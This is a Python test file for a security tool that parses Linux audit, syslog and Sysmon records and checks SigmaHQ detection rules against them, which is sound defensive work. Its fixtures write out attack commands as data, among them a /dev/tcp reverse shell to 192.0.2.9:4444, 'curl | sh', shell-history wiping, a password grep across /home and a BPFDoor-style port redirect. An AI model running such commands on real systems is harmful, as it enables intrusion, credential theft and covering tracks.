"""What records of Linux logs come to, and that the public rules about them find what they look for.

The rules aren't part of the project. SHIELD_SIGMAHQ names a checkout's folder; without it, ../shared/data/sigmahq is
tried.
"""

import io
import os
from collections.abc import Callable, Iterable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shield.collector.replay import auditd, syslog, sysmon_linux
from shield.event import Auth, Event, Network
from shield.normalizer.interpretation import Interpretation
from shield.normalizer.linux_log import interpret
from shield.normalizer.log import LogNormalizer
from shield.record import LogRecord
from shield.scorer.sigma import logsource
from shield.scorer.sigma.matcher import Matcher
from shield.scorer.sigma.parse import parse
from shield.text import encode

RULES = Path(os.environ.get("SHIELD_SIGMAHQ", Path(__file__).parents[3] / "shared" / "data" / "sigmahq"))
STAMP = "1700000000.123:1"
NUMBERS = {"execve": 59, "openat": 257, "rename": 82, "unlink": 87, "chmod": 90, "mknod": 133, "personality": 135}
NUMBERS |= {"connect": 42, "syslog": 103, "sysinfo": 99, "memfd_create": 319, "init_module": 175}


def call(
    name: str, *more: str, exe: str = "/usr/bin/tool", key: str = "(null)", a0: str = "ffffff9c", done: str = "yes"
) -> str:
    """The records of a system call, `more` standing behind its own."""
    own = (
        f"type=SYSCALL msg=audit({STAMP}): arch=c000003e syscall={NUMBERS[name]} success={done} exit=0 a0={a0} a1=7f"
        " a2=241 a3=0 items=0 ppid=100 pid=101 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 fsgid=33"
        f' tty=pts0 ses=3 comm="{exe.rpartition("/")[2]}" exe="{exe}" key={key}\x1dUID="www-data" AUID="alice"'
    )
    records = [f"type={record.partition(' ')[0]} msg=audit({STAMP}): {record.partition(' ')[2]}" for record in more]
    return "\n".join([own, *records, f"type=PROCTITLE msg=audit({STAMP}): proctitle=78"])


def path(name: str, kind: str = "NORMAL") -> str:
    return f'PATH item=0 name="{name}" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype={kind} cap_fp=0'


def execed(*args: str, exe: str = "", key: str = "(null)") -> str:
    listed = " ".join(f"a{number}={arg.encode().hex().upper()}" for number, arg in enumerate(args))
    image = exe or f"/usr/bin/{args[0]}"
    return call("execve", f"EXECVE argc={len(args)} {listed}", 'CWD cwd="/root"', path(image), exe=image, key=key)


def said(program: str, message: str) -> str:
    return f"Nov 24 20:27:01 web-3 {program}[77]: {message}\n"


def noted(kind: str, message: str) -> str:
    return f"type={kind} msg=audit({STAMP}): pid=1 uid=0 auid=1000 ses=3 msg='{message}'\n"


def sysmon(number: int, **data: str) -> str:
    leaves = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    system = f'<Provider Name="Linux-Sysmon"/><EventID>{number}</EventID><Computer>web-3</Computer>'
    return f"<Event><System>{system}</System><EventData>{leaves}</EventData></Event>"


def records(text: str) -> Iterator[LogRecord]:
    raw = encode(text)
    reader = next(reader for reader in (auditd, sysmon_linux, syslog) if reader.matches(raw))
    for _, item in reader.read(io.BytesIO(raw), "log"):
        assert isinstance(item, LogRecord), item
        yield item


def only(text: str) -> Interpretation:
    (found,) = records(text)
    return interpret(found)


def events(text: str) -> list[Event]:
    normalizer = LogNormalizer()
    return [normalizer.event(record, 7) for record in records(text)]


def test_an_exec_is_a_process_start_with_all_that_the_records_say() -> None:
    found = only(execed("sh", "-c", "curl http://x | sh", exe="/usr/bin/dash"))
    assert (found.category, found.service, found.sigma_category) == ("process_start", "auditd", "process_creation")
    process, user = found.process, found.user
    assert process
    assert user
    assert (process.pid, process.ppid, process.name, process.exe) == (101, 100, "dash", "/usr/bin/dash")
    assert process.args == ("sh", "-c", "curl http://x | sh")
    assert (process.cmdline, process.args_length) == ("sh -c curl http://x | sh", 25)
    assert (process.cwd, process.tty, process.truncated) == ("/root", "pts0", False)
    assert (user.id, user.name, user.effective_id, user.audit_id, user.audit_name) == (
        33,
        "www-data",
        33,
        1000,
        "alice",
    )
    assert found.session == "audit:3"


def test_an_exec_that_failed_starts_nothing() -> None:
    found = only(call("execve", done="no"))
    assert (found.category, found.sigma_category) == ("log_record", "")


def test_an_exec_of_a_deleted_file_says_so() -> None:
    process = only(call("execve", "EXECVE argc=1 a0=78", exe="/tmp/x (deleted)")).process
    assert process
    assert (process.exe, process.exe_deleted, process.exe_memfd) == ("/tmp/x", True, False)
    process = only(call("execve", "EXECVE argc=1 a0=78", exe="/memfd:x (deleted)")).process
    assert process
    assert (process.exe_deleted, process.exe_memfd) == (False, True)


@pytest.mark.parametrize(
    ("text", "category", "sigma_category"),
    [
        (call("openat", path("/etc/cron.d/x", "CREATE")), "file_create", "file_event"),
        (call("unlink", path("/etc/cron.d/x", "DELETE")), "file_delete", "file_delete"),
        (call("chmod", path("/etc/cron.d/x")), "file_attribute", "file_change"),
        (call("openat", path("/etc/cron.d/x")), "log_record", ""),
        (call("openat", path("/etc/cron.d/x", "CREATE"), done="no"), "log_record", ""),
    ],
)
def test_what_was_done_to_a_file_is_typed(text: str, category: str, sigma_category: str) -> None:
    found = only(text)
    assert (found.category, found.sigma_category) == (category, sigma_category)
    assert (found.file.path if found.file else "") == ("/etc/cron.d/x" if category != "log_record" else "")


def test_a_connection_is_typed() -> None:
    found = only(call("connect", "SOCKADDR saddr=0200115C010203040000000000000000"))
    assert (found.category, found.sigma_category) == ("network_connection", "network_connection")
    assert found.network == Network(destination_ip="1.2.3.4", destination_port=4444, initiated=True)
    assert only(call("connect", "SOCKADDR saddr=01002F746D702F78")).category == "log_record"


def test_a_module_that_was_loaded_is_typed() -> None:
    assert only(call("init_module")).category == "module_load"


@pytest.mark.parametrize(
    ("kind", "message", "category"),
    [
        ("USER_AUTH", 'op=PAM:authentication acct="root" exe="/usr/bin/su" addr=192.0.2.9 res=success', "auth_success"),
        ("USER_AUTH", 'op=PAM:authentication acct="root" exe="/usr/bin/su" addr=192.0.2.9 res=failed', "auth_failure"),
        ("USER_LOGIN", 'op=login acct="root" exe="/usr/sbin/sshd" addr=192.0.2.9 res=failed', "auth_failure"),
        ("USER_CMD", 'cwd="/" cmd="id" acct="root" exe="/usr/bin/sudo" addr=192.0.2.9 res=success', "privilege_change"),
        ("ADD_USER", 'op=adding user acct="root" exe="/usr/sbin/useradd" addr=192.0.2.9 res=success', "account_change"),
        ("CRED_ACQ", 'op=PAM:setcred acct="root" exe="/usr/bin/su" addr=192.0.2.9 res=success', "log_record"),
    ],
)
def test_what_programs_write_into_the_audit_log_is_typed(kind: str, message: str, category: str) -> None:
    found = only(noted(kind, message))
    assert (found.category, found.service) == (category, "auditd")
    assert found.user
    assert (found.user.name, found.user.audit_id) == ("root", 1000)
    assert found.network == Network(source_ip="192.0.2.9")


@pytest.mark.parametrize(
    ("program", "message", "service", "category"),
    [
        ("sshd", "Accepted password for alice from 192.0.2.9 port 333 ssh2", "sshd", "auth_success"),
        ("sshd", "Failed password for alice from 192.0.2.9 port 333 ssh2", "sshd", "auth_failure"),
        ("sshd-session", "Invalid user alice from 192.0.2.9 port 333", "sshd", "auth_failure"),
        ("sudo", "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id", "sudo", "privilege_change"),
        (
            "sudo",
            "alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
            "sudo",
            "auth_failure",
        ),
        ("su", "(to root) alice on pts/0", "su", "privilege_change"),
        ("useradd", "new user: name=eve, UID=0, GID=0, home=/, shell=/bin/sh", "auth", "account_change"),
        ("crontab", "(alice) REPLACE (alice)", "cron", "persistence_change"),
        ("CRON", "(root) CMD (id)", "cron", "log_record"),
        (
            "xrdp",
            "pam_unix(xrdp:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=",
            "auth",
            "auth_failure",
        ),
        ("clamd", "/tmp/x: Trojan FOUND", "clamav", "log_record"),
        ("kernel", "oops", "kernel", "log_record"),
        ("named", "hello", "syslog", "log_record"),
    ],
)
def test_lines_of_daemons_are_typed(program: str, message: str, service: str, category: str) -> None:
    found = only(said(program, message))
    authentication = "authentication" if category in ("auth_success", "auth_failure") else ""
    assert (found.service, found.category, found.sigma_category) == (service, category, authentication)
    assert found.process
    assert found.process.pid == 77


def test_who_came_from_where_is_typed() -> None:
    found = only(said("sshd", "Failed password for alice from 192.0.2.9 port 333 ssh2"))
    assert found.user
    assert found.user.name == "alice"
    assert found.network == Network(source_ip="192.0.2.9", source_port=333)


def test_sysmon_for_linux_is_typed() -> None:
    started = only(
        sysmon(
            1,
            ProcessGuid="{ec2e1234-1111-6168-0000-000000000000}",
            ProcessId="55",
            Image="/usr/bin/curl",
            CommandLine="curl x",
            CurrentDirectory="/tmp",
            User="root",
            Hashes="SHA256=00FF,MD5=11",
            ParentProcessId="54",
            ParentImage="/bin/bash",
            ParentCommandLine="bash -i",
            ParentUser="alice",
        )
    )
    assert (started.category, started.service, started.sigma_category) == (
        "process_start",
        "sysmon",
        "process_creation",
    )
    assert started.process
    assert started.parent
    assert started.user
    assert (started.process.pid, started.process.ppid, started.process.exe) == (55, 54, "/usr/bin/curl")
    assert started.process.hashes == {"sha256": "00ff", "md5": "11"}
    assert (started.parent.exe, started.parent_user, started.user.name) == ("/bin/bash", "alice", "root")
    connected = only(
        sysmon(3, ProcessId="55", Protocol="TCP", Initiated="true", DestinationIp="192.0.2.9", DestinationPort="4444")
    )
    assert (connected.category, connected.sigma_category) == ("network_connection", "network_connection")
    assert connected.network == Network("tcp", destination_ip="192.0.2.9", destination_port=4444, initiated=True)
    created = only(sysmon(11, ProcessId="55", Image="/usr/bin/curl", TargetFilename="/tmp/x"))
    assert (created.category, created.sigma_category) == ("file_create", "file_event")
    assert created.file
    assert created.file.path == "/tmp/x"
    assert only(sysmon(5, ProcessId="55")).category == "process_exit"
    assert only(sysmon(23, ProcessId="55", TargetFilename="/x")).sigma_category == "file_delete"
    assert only(sysmon(9, ProcessId="55")).sigma_category == "raw_access_thread"
    assert only(sysmon(16)).category == "log_record"


def test_what_a_process_does_joins_the_story_of_its_start() -> None:
    opened = call("openat", path("/etc/x", "CREATE"), exe="/usr/bin/zip").replace(STAMP, "1700000001.000:2")
    started, wrote = events(execed("zip", "x") + "\n" + opened)
    assert wrote.correlation_id == started.correlation_id != ""


VALUES: st.SearchStrategy[Any] = st.one_of(
    st.text(max_size=4),
    st.integers(),
    st.booleans(),
    st.lists(st.text(max_size=4) | st.integers(), max_size=3).map(tuple),
)
NAMES = st.sampled_from(
    [
        *(
            "type",
            "SYSCALL",
            "success",
            "pid",
            "uid",
            "name",
            "nametype",
            "exe",
            "a0",
            "a2",
            "laddr",
            "lport",
            "saddr_fam",
        ),
        *("event", "user", "USER", "source_ip", "source_port", "method", "acct", "addr", "res", "ProcessId", "Hashes"),
    ]
)


@given(
    st.sampled_from(["auditd", "Linux-Sysmon", "sshd", "sudo", ""]),
    st.sampled_from(["", "SYSCALL", "1", "3", "11", "x"]),
    st.dictionaries(NAMES, VALUES | st.sampled_from(["SYSCALL", "EXECVE", "execve", "connect", "inet", "CREATE"])),
)
def test_no_fields_raise(provider: str, code: str, fields: dict[str, Any]) -> None:
    assert isinstance(interpret(LogRecord("linux", provider=provider, code=code, fields=fields)), Interpretation)


@cache
def rule(name: str) -> Matcher:
    (found,) = RULES.rglob(f"{name}.yml")
    rules = parse(found.read_bytes(), str(found))
    return Matcher(rules, {each.id: 1 for each in rules})


def matched(name: str, text: str) -> bool:
    matcher = rule(name)
    return any(matcher.matching(event) for event in events(text))


MATCHING: dict[str, str] = {
    "lnx_auditd_audio_capture": call("memfd_create", exe="/usr/bin/ecasound"),
    "lnx_auditd_split_file_into_pieces": execed("split", "-b", "1M", "x"),
    "lnx_auditd_network_service_scanning": call("connect", exe="/usr/bin/nmap", key='"network_connect_4"'),
    "lnx_auditd_susp_special_file_creation_via_mknod_syscall": call("mknod"),
    "lnx_auditd_web_rce": execed("id"),
    "lnx_auditd_susp_discovery_sysinfo_syscall": call("sysinfo"),
    "lnx_auditd_create_account": noted("ADD_USER", 'op=adding user acct="eve" res=success'),
    "lnx_auditd_clean_disable_dmesg_logs_via_syslog": call("syslog", a0="5"),
    "lnx_auditd_susp_exe_folders": execed("x", exe="/tmp/x"),
    "lnx_auditd_load_module_insmod": execed("insmod", "x.ko", exe="/usr/bin/kmod").replace(
        'comm="kmod"', 'comm="insmod"'
    ),
    "lnx_auditd_susp_c2_commands": execed("wget", "x", key='"susp_activity"'),
    "lnx_auditd_system_info_discovery": call("openat", path("/etc/issue")),
    "lnx_auditd_keylogging_with_pam_d": f'type=TTY msg=audit({STAMP}): tty pid=1 uid=0 comm="bash" data=6C730D',
    "lnx_auditd_disable_aslr_protection": call("personality", a0="40000"),
    "lnx_auditd_data_compressed": execed("tar", "-cvf", "x.tar", "/etc"),
    "lnx_auditd_clipboard_image_collection": execed("xclip", "-sel", "clip", "-t", "image/png", "-o"),
    "lnx_auditd_masquerading_crond": execed("cp", "/bin/sh", "/tmp/crond"),
    "lnx_auditd_hidden_files_directories": execed("touch", "/tmp/.x"),
    "lnx_auditd_chattr_immutable_removal": execed("chattr", "-i", "/etc/passwd"),
    "lnx_auditd_change_file_time_attr": execed("touch", "-r", "/bin/ls", "/tmp/x"),
    "lnx_auditd_susp_cmds": execed("chmod", "777", "/tmp/x"),
    "lnx_auditd_bpfdoor_port_redirect": execed(
        *(
            "iptables",
            "-t",
            "nat",
            "-A",
            "PREROUTING",
            "-p",
            "tcp",
            "-s",
            "192.0.2.9",
            "--dport",
            "22",
            "-j",
            "REDIRECT",
        ),
        *("--to-ports", "42392"),
    ),
    "lnx_auditd_coinminer": execed("x", "-o", "pool", "--cpu-priority=5"),
    "lnx_auditd_find_cred_in_files": execed("grep", "-ri", "password", "/home"),
    "lnx_auditd_system_shutdown_reboot": execed("shutdown", "-h", "now"),
    "lnx_auditd_susp_histfile_operations": execed("rm", "/root/.bash_history"),
    "lnx_auditd_binary_padding": execed("truncate", "-s", "+1M", "x"),
    "lnx_auditd_password_policy_discovery": execed("chage", "-l", "root"),
    "lnx_auditd_ld_so_preload_mod": call("openat", path("/etc/", "PARENT"), path("/etc/ld.so.preload", "CREATE")),
    "lnx_auditd_magic_system_request_key": call("openat", path("/proc/sysrq-trigger")),
    "lnx_auditd_auditing_config_change": call("openat", 'CWD cwd="/etc/audit"', path("auditd.conf", "CREATE")),
    "lnx_auditd_unix_shell_configuration_modification": call("openat", path("/home/a/.bashrc")),
    "lnx_auditd_systemd_service_creation": call("openat", path("/etc/systemd/system/x.service", "CREATE")),
    "lnx_auditd_hidden_binary_execution": execed("x", exe="/tmp/.x"),
    "lnx_auditd_disable_system_firewall": noted("SERVICE_STOP", 'unit=firewalld comm="systemd" exe="/x" res=success'),
    "lnx_guacamole_susp_guacamole": said("guacd", 'User "x" joined connection (2 users now present)'),
    "lnx_clamav_relevant_message": said("clamd", "/tmp/x: Unix.Trojan.Mirai-1 FOUND"),
    "lnx_vsftpd_susp_error_messages": said("vsftpd", "Connection refused: tcp_wrappers denial."),
    "lnx_syslog_susp_named": said("named", "client @0x7f 192.0.2.9#53: zone transfer denied AXFR from 192.0.2.9"),
    "lnx_syslog_security_tools_disabling_syslog": said("systemd", "stopping firewalld - dynamic firewall daemon"),
    "lnx_cron_crontab_file_modification": said("crontab", "(alice) REPLACE (alice)"),
    "lnx_sshd_susp_ssh": said("sshd", "error: Corrupted MAC on input. [preauth]"),
    "lnx_privileged_user_creation": said("useradd", "new user: name=eve, UID=0, GID=0, home=/, shell=/bin/bash"),
    "lnx_shell_susp_log_entries": said("kernel", "device eth0 entered promiscuous mode"),
    "lnx_ldso_preload_injection": said(
        "sudo", "a : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/vi /etc/ld.so.preload"
    ),
    "lnx_shell_clear_cmd_history": execed("bash", "-c", "cat /dev/null > ~/.bash_history; history -c"),
    "lnx_susp_dev_tcp": execed("bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
    "proc_creation_lnx_wget_download_suspicious_directory": execed("wget", "http://x", "-O", "/tmp/x"),
    "proc_creation_lnx_crypto_mining": sysmon(1, ProcessId="5", Image="/x", CommandLine="x --cpu-priority=5"),
    "file_event_lnx_persistence_sudoers_files": call("openat", path("/etc/sudoers.d/x", "CREATE")),
    "file_event_lnx_wget_download_file_in_tmp_dir": sysmon(11, Image="/usr/bin/wget", TargetFilename="/tmp/x"),
    "net_connection_lnx_back_connect_shell_dev": call(
        "connect", "SOCKADDR saddr=0200115CC0000209", exe="/usr/bin/bash"
    ),
    "net_connection_lnx_susp_malware_callback_port": sysmon(
        3, Initiated="true", DestinationIp="192.0.2.9", DestinationPort="4444"
    ),
}


@pytest.mark.skipif(not RULES.is_dir(), reason=f"no SigmaHQ rules at {RULES}; set SHIELD_SIGMAHQ")
@pytest.mark.parametrize("name", MATCHING)
def test_a_public_rule_finds_what_it_looks_for(name: str) -> None:
    assert matched(name, MATCHING[name])


PASSED_OVER: dict[str, list[str]] = {
    "lnx_auditd_systemd_service_creation": [
        call(
            "rename",
            path("/etc/systemd/system/", "PARENT"),
            path("/tmp/", "PARENT"),
            path("/etc/systemd/system/x.service", "DELETE"),
            path("/tmp/x.service", "CREATE"),
        ),
    ],
    "lnx_auditd_hidden_binary_execution": [execed("x", exe="/home/a/.cache/x"), execed("ls")],
    "lnx_auditd_clean_disable_dmesg_logs_via_syslog": [call("syslog", a0="3"), execed("syslog", "4")],
    "lnx_auditd_web_rce": [execed("id").replace("euid=33", "euid=0"), call("openat")],
    "lnx_auditd_coinminer": [call("openat"), execed("ls", "-l")],
    "lnx_auditd_data_compressed": [execed("tar", "-x"), execed("ls", "zip")],
    "lnx_sshd_susp_ssh": [
        said("sshd", "Accepted password for a from 192.0.2.9 port 3 ssh2"),
        said("logger", "error in libcrypto"),
    ],
    "lnx_cron_crontab_file_modification": [said("logger", "(a) REPLACE (a)")],
    "lnx_auditd_binary_padding": [execed("dd", "if=/dev/sda", "of=/dev/sdb")],
}


@pytest.mark.skipif(not RULES.is_dir(), reason=f"no SigmaHQ rules at {RULES}; set SHIELD_SIGMAHQ")
@pytest.mark.parametrize("name", PASSED_OVER)
def test_a_public_rule_passes_over_what_only_looks_alike(name: str) -> None:
    assert [text for text in PASSED_OVER[name] if matched(name, text)] == []


@pytest.mark.skipif(not RULES.is_dir(), reason=f"no SigmaHQ rules at {RULES}; set SHIELD_SIGMAHQ")
def test_every_log_source_of_the_public_rules_about_linux_is_one_that_records_can_have() -> None:
    texts: Iterable[str] = MATCHING.values()
    sources = [logsource.of(event) for text in texts for event in events(text)]
    unserved: list[str] = []
    for file in sorted(RULES.rglob("*.yml")):
        if "linux" in file.parts:
            unserved += [str(file) for each in parse(file.read_bytes(), str(file)) if not _served(each, sources)]
    assert unserved == []


def _served(rule: Any, sources: list[logsource.LogSource]) -> bool:
    covers: Callable[[Any, logsource.LogSource], bool] = logsource.covers
    return any(covers(rule, source) for source in sources)


KEY = "SHA256:" + "Ab0/" * 10 + "xyz"


@pytest.mark.parametrize(
    ("program", "message", "auth"),
    [
        (
            "sshd-session",
            f"Accepted publickey for alice from 192.0.2.9 port 333 ssh2: ED25519 {KEY}",
            Auth("sshd", "publickey", "ED25519", KEY),
        ),
        ("sshd", "Failed password for root from 192.0.2.9 port 333 ssh2", Auth("sshd", "password")),
        (
            "sudo",
            "alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
            Auth("sudo", by_user="alice", tty="pts/0", command="/bin/id", reason="user NOT in sudoers"),
        ),
        (
            "sudo",
            "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
            Auth("sudo", "", "", "", "alice", "pts/0", "/bin/id"),
        ),
        ("su", "FAILED SU (to root) alice on pts/0", Auth("su", by_user="alice", tty="pts/0")),
        ("su", "(to root) alice on pts/0", Auth("su", by_user="alice", tty="pts/0")),
        ("login", "LOGIN ON tty1 BY alice FROM client.example", Auth("login", tty="tty1")),
        ("CRON", "(root) CMD (id)", None),
        ("sshd", "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", None),
    ],
)
def test_how_somebody_proved_himself_is_typed(program: str, message: str, auth: Auth | None) -> None:
    assert only(said(program, message)).auth == auth


def test_a_program_s_audit_record_tells_how_somebody_proved_himself() -> None:
    line = (
        'type=USER_CMD msg=audit(1700000000.123:42): pid=77 uid=1000 auid=1000 ses=3 msg=\'cwd="/" cmd=6964202D75 '
        'exe="/usr/bin/sudo" terminal=pts/0 res=success\'\x1dAUID="alice"'
    )
    assert only(line).auth == Auth("sudo", by_user="alice", tty="pts/0", command="id -u")
